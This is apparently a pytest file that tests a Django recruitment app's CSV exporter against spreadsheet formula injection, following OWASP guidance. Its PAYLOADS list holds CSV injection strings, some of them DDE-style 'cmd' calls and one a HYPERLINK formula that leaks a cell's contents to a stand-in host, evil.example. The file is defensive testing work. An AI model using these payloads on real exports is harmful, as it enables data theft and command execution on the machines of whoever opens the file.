"""The one CSV writer (recruitment.csv_export): no text cell can start a spreadsheet formula,
numbers stay numbers (OWASP CSV injection guidance)."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy

from recruitment.csv_export import FORMULA_TRIGGERS, safe_cell, to_csv

PAYLOADS = [
    "+1+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1;"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "   =1+1",  # some spreadsheets trim leading spaces
    "-3",  # text that looks like a number is text
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_cell_that_could_start_a_formula_is_quoted_text(payload):
    text = to_csv([["reason"], [payload]])
    assert _cells(text)[1] == ["'" + payload]
    assert text.startswith('"reason"\r\n"\'')  # quoted: no separator inside opens a new cell


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_character_is_neutralised(trigger):
    assert safe_cell(f"{trigger}x") == f"'{trigger}x"


def test_numbers_stay_numbers_and_text_stays_as_it_was():
    text = to_csv([["a", "b", "c", "d", "e", "f"], [-3, -2.5, Decimal("-1.25"), 0, None, "Nurse"]])
    assert text.splitlines()[1] == '-3,-2.5,-1.25,0,"","Nurse"'
    assert _cells(text)[1] == ["-3", "-2.5", "-1.25", "0", "", "Nurse"]


def test_separators_and_quotes_inside_text_cannot_open_a_new_cell():
    for separator in (",", ";", "\t"):
        text = to_csv([[f"a{separator}=1+1", 'say "=1+1"']])
        assert _cells(text) == [[f"a{separator}=1+1", 'say "=1+1"']]
        assert text.startswith('"a')


def test_lazy_translations_and_other_objects_are_text():
    assert safe_cell(gettext_lazy("Total")) == "Total"
    assert safe_cell(True) == "True"  # a bool is not a number cell
    assert safe_cell(type("Odd", (), {"__str__": lambda self: "=cmd"})()) == "'=cmd"


def test_no_other_module_writes_csv():
    """Every export asks csv_export: no app module builds CSV rows with the csv module."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("config", "recruitment", "credentials", "integration", "monitoring")
        for path in (root / app).rglob("*.py")
        if path.name != "csv_export.py"
        and any(name in path.read_text() for name in ("csv.writer", "csv.DictWriter"))
    ]
    assert offenders == []
